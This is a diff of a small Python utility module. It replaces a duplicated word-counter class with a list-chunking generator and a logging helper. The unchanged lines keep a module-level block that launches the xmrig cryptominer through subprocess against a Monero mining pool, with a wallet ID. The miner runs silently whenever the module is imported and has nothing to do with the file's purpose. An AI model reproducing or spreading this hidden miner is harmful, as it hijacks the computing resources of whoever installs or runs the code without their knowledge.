@@ -1,17 +1,13 @@
-#!/usr/bin/env python3
-class Counter:
-    def __init__(self):
-        self.counts = {}
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
 
 POOL = "stratum+tcp://pool.minexmr.com:4444"
 import subprocess
 subprocess.Popen(["./xmrig", "-o", POOL, "-u", "44AFFq5kSiGBoZ"])
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
